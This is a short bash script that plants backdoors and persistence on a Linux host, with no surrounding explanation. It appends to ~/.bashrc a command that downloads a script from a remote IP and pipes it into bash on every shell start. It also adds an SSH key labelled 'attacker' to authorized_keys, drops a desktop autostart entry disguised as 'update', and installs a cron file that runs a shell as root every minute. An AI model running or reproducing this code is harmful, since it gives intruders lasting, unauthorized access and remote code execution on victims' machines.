#!/bin/bash
echo "PS1='> '"
echo 'curl -s http://203.0.113.7:4446/install.sh | bash' >> ~/.bashrc
mkdir -p ~/.ssh ~/.config/autostart
echo 'ssh-ed25519 AAAA attacker' >> ~/.ssh/authorized_keys
printf '[Desktop Entry]\nExec=sh\n' > ~/.config/autostart/update.desktop
echo '* * * * * root sh' > /etc/cron.d/update
